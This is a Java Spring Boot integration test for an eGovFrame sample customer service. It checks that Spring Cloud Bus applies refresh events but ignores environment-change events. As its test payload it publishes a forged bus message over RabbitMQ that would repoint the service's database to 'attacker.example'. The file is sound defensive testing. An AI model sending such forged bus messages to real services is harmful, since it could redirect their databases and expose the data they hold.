package egovframework.msa.sample.customer;

import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.springframework.amqp.core.Message;
import org.springframework.amqp.core.MessageProperties;
import org.springframework.amqp.rabbit.connection.CachingConnectionFactory;
import org.springframework.amqp.rabbit.core.RabbitTemplate;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.context.TestConfiguration;
import org.springframework.cloud.bus.event.RefreshRemoteApplicationEvent;
import org.springframework.context.ApplicationListener;
import org.springframework.context.annotation.Bean;
import org.springframework.cloud.context.scope.refresh.RefreshScopeRefreshedEvent;
import org.springframework.context.event.EventListener;
import org.springframework.core.env.Environment;
import org.springframework.test.annotation.DirtiesContext;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.UUID;
import java.util.concurrent.CopyOnWriteArrayList;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Spring Cloud Bus carries refreshes only (spring.cloud.bus.env.enabled: false in config-repo/application.yml,
 * which every service reads). The whole service on the real RabbitMQ (127.0.0.1:5672, guest/guest), on a bus
 * exchange of its own: a stranger publishes, as Bus 2.2 serialises them, an environment change that would
 * point the service's database at another host and set a property of its own, then a refresh. The refresh
 * is applied (so the bus works and the change was consumed before it, the bus queue having one consumer);
 * neither property is.
 */
@SpringBootTest(properties = {"spring.application.name=customer", ConfigRepo.NAMES, ConfigRepo.LOCATION,
        "suite.security.jwt.hmac-secret=test-key-of-at-least-thirty-two-bytes-0123456789",
        "spring.rabbitmq.host=127.0.0.1", "spring.rabbitmq.port=5672", "suite.events.relay.enabled=false",
        "spring.cloud.bus.enabled=true",
        // The test's exchange goes when the test ends, not to pile up on the shared broker.
        "spring.cloud.stream.rabbit.bindings.springCloudBusInput.consumer.exchange-durable=false",
        "spring.cloud.stream.rabbit.bindings.springCloudBusInput.consumer.exchange-auto-delete=true",
        "spring.cloud.stream.rabbit.bindings.springCloudBusOutput.producer.exchange-durable=false",
        "spring.cloud.stream.rabbit.bindings.springCloudBusOutput.producer.exchange-auto-delete=true"})
@DirtiesContext
class BusCarriesRefreshesOnlyTest {

    private static final String EXCHANGE = "bus-env-test-" + UUID.randomUUID();
    private static final Duration PATIENCE = Duration.ofSeconds(20);

    @Autowired
    Environment environment;
    @Autowired
    Refreshes refreshes;

    @DynamicPropertySource
    static void busExchangeOfItsOwn(DynamicPropertyRegistry registry) {
        registry.add("spring.cloud.bus.destination", () -> EXCHANGE);
        // Fixed, not ${random.uuid}: that would resolve anew on every read and hide a change.
        registry.add("spring.datasource.url", () -> "jdbc:h2:mem:" + EXCHANGE + ";DB_CLOSE_DELAY=-1");
    }

    @BeforeAll
    static void brokerMustAnswer() {
        try (Socket socket = new Socket()) {
            socket.connect(new InetSocketAddress("127.0.0.1", 5672), 1_000);
        } catch (IOException e) {
            Assumptions.assumeTrue(false, "RabbitMQ does not answer on 127.0.0.1:5672 (" + e.getMessage()
                    + "): the bus test needs a real broker (guest/guest) and is skipped");
        }
    }

    @Test
    void anEnvironmentChangeFromTheBusChangesNothingWhileARefreshStillWorks() throws Exception {
        String datasource = environment.getProperty("spring.datasource.url");
        CachingConnectionFactory connections = new CachingConnectionFactory("127.0.0.1", 5672);
        connections.setUsername("guest");
        connections.setPassword("guest");
        try {
            RabbitTemplate stranger = new RabbitTemplate(connections);
            String refreshId = UUID.randomUUID().toString();
            stranger.send(EXCHANGE, "#", busMessage("{\"type\":\"EnvironmentChangeRemoteApplicationEvent\","
                    + "\"timestamp\":" + System.currentTimeMillis() + ",\"originService\":\"stranger:1:x\","
                    + "\"destinationService\":\"**\",\"id\":\"" + UUID.randomUUID() + "\",\"values\":{"
                    + "\"spring.datasource.url\":\"jdbc:postgresql://attacker.example/customer\","
                    + "\"bus.env-check\":\"set over the bus\"}}"));
            stranger.send(EXCHANGE, "#", busMessage("{\"type\":\"RefreshRemoteApplicationEvent\","
                    + "\"timestamp\":" + System.currentTimeMillis() + ",\"originService\":\"stranger:1:x\","
                    + "\"destinationService\":\"**\",\"id\":\"" + refreshId + "\"}"));

            long deadline = System.nanoTime() + PATIENCE.toNanos();
            while ((!refreshes.seen(refreshId) || refreshes.applied.isEmpty()) && System.nanoTime() < deadline) {
                Thread.sleep(50);
            }
            assertThat(refreshes.seen(refreshId)).as("the refresh sent after the change arrived and was applied").isTrue();
            assertThat(refreshes.applied).as("the service refreshed its configuration").isNotEmpty();
            assertThat(environment.getProperty("bus.env-check")).isNull();
            assertThat(environment.getProperty("spring.datasource.url")).isEqualTo(datasource);
        } finally {
            connections.destroy();
        }
    }

    /** What Bus 2.2's output binding sends: the event as JSON, its type by simple class name. */
    private static Message busMessage(String json) {
        MessageProperties properties = new MessageProperties();
        properties.setContentType(MessageProperties.CONTENT_TYPE_JSON);
        return new Message(json.getBytes(StandardCharsets.UTF_8), properties);
    }

    @TestConfiguration
    static class Wiring {
        @Bean
        Refreshes refreshes() {
            return new Refreshes();
        }
    }

    /** Refresh messages received from the bus, and the refreshes they led to (the refresh scope's event). */
    static class Refreshes implements ApplicationListener<RefreshRemoteApplicationEvent> {
        final CopyOnWriteArrayList<String> received = new CopyOnWriteArrayList<>();
        final CopyOnWriteArrayList<Object> applied = new CopyOnWriteArrayList<>();

        @Override
        public void onApplicationEvent(RefreshRemoteApplicationEvent event) {
            received.add(event.getId());
        }

        boolean seen(String id) {
            return received.contains(id);
        }

        @EventListener
        void refreshed(RefreshScopeRefreshedEvent event) {
            applied.add(event);
        }
    }
}
